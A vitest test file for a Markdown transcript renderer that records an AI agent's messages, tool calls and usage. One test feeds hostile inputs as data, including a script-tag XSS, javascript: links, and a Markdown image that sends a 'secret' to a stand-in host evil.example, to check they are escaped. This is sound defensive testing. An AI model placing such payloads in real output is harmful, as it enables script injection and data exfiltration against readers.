import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Activity } from '../../../../contract/activity.ts';
import { createTranscript } from '../../../../main/daemon/domain/transcript.ts';

const usage = { inputTokens: 9, cachedInputTokens: 1, outputTokens: 3, costUsd: 0.5, basis: 'reported' } as const;

function write(activities: readonly Activity[], questions: readonly string[] = []): string {
  const transcript = createTranscript({ title: 'Transcript of s-a1', told: 'Goal\nDo it' });
  return `${activities.map(transcript.add).join('')}${transcript.end({ questions, usage })}`;
}

describe('ACT-8: a transcript', () => {
  it('tells a story', () => {
    expect(
      write(
        [
          { kind: 'session', session: 's' },
          { kind: 'thought', text: 'Hm', isDelta: true },
          { kind: 'message', text: 'I lo', isDelta: true },
          { kind: 'message', text: 'ok.\nNow', isDelta: true },
          { kind: 'tool_call', callId: 'c', status: 'running', name: 'Bash', title: 'ls', input: '{"command":"ls"}' },
          { kind: 'tool_call', callId: 'c', status: 'completed', exitCode: 0, output: 'a\n```\nb' },
          { kind: 'file_change', path: 'a.txt', change: 'add' },
        ],
        ['Which\ncolour?'],
      ),
    ).toBe(`# Transcript of s-a1

## What it was told

\`\`\`
Goal
Do it
\`\`\`

## What it did

### Agent, to itself

> Hm

### Agent

> I look.
> Now

### Tool \` Bash \`: completed, exit 0

\` ls \`

Given:

\`\`\`
{"command":"ls"}
\`\`\`

Answered:

\`\`\`\`
a
\`\`\`
b
\`\`\`\`

File: add \` a.txt \`

## Its questions

> Which
> colour?

## Used

9 tokens in (1 of them cached), 3 out, 0.5 US dollars, reported.
`);
  });

  it.each(['pending', 'running'] as const)('tells of a call that was %s last that it did not end', (status) => {
    expect(write([{ kind: 'tool_call', callId: 'c', status, name: 'Bash' }])).toContain(
      '### Tool ` Bash `: did not end\n',
    );
  });

  it.each([
    ['<script>alert(1)</script>', '&#60;script>alert(1)&#60;/script>'],
    ['![](https://evil.example/?q=secret)', '!&#91;]&#40;https://evil.example/?q=secret)'],
    ['[x](javascript:alert(1))', '[x]&#40;javascript:alert(1))'],
    ['[x]: javascript:alert(1)', '[x]&#58; javascript:alert(1)'],
    ['<https://evil.example>', '&#60;https://evil.example>'],
    ['a[0] > b (c): d', 'a[0] > b (c): d'],
  ])('shows %s, and lets it do nothing, however it comes in pieces', (text, shown) => {
    const whole = write([{ kind: 'message', text, isDelta: false }], [text]);
    expect(whole.split(`> ${shown}\n`)).toHaveLength(3);
    const pieces = Array.from(text).map((piece) => ({ kind: 'message', text: piece, isDelta: true }) as const);
    expect(write(pieces)).toContain(`> ${shown}\n`);
  });

  it('has no line of an agent that passes for one of ours', () => {
    const text = fc.array(fc.constantFrom('#', '`', '```', '\n', '\r', ' forged', '> ', '# forged', '~~~'), {
      maxLength: 12,
    });
    const hostile = text.map((parts) => parts.join(''));
    fc.assert(
      fc.property(hostile, hostile, fc.boolean(), (one, other, isDelta) => {
        const story = write(
          [
            { kind: 'message', text: one, isDelta },
            { kind: 'message', text: other, isDelta },
            { kind: 'tool_call', callId: 'c', status: 'failed', name: other, title: one, input: one, output: other },
            { kind: 'notice', level: 'error', text: one },
            { kind: 'plan', entries: [{ content: other, status: 'pending' }] },
          ],
          [one],
        );
        expect(headingsOf(story)).not.toContain('forged');
      }),
    );
  });

  /** What a reader of Markdown takes for headings: outside of fences and quotes. */
  function headingsOf(story: string): string {
    const headings: string[] = [];
    let fence: string | null = null;
    for (const line of story.split(/\r\n|\r|\n/)) {
      const ticks = /^(`{3,}|~{3,})\s*$/.exec(line)?.[1];
      if (fence !== null) {
        if (ticks?.startsWith(fence) === true) fence = null;
      } else if (ticks !== undefined) fence = ticks;
      else if (/^ {0,3}#/.test(line)) headings.push(line.replace(/(`+) .* \1/, ''));
    }
    return headings.join('\n');
  }

  it('of one who says nothing is none; of one who says very much has its end', () => {
    expect(write([])).toBe('');
    const long = write(
      Array.from({ length: 40 }, () => ({ kind: 'message', text: 'x'.repeat(100_000), isDelta: true })),
    );
    expect(long.length).toBeLessThan(2_200_000);
    expect(long).toContain('The rest is in `activity.jsonl`.');
    expect(long).toMatch(/## Used\n\n.*\n$/);
  });
});
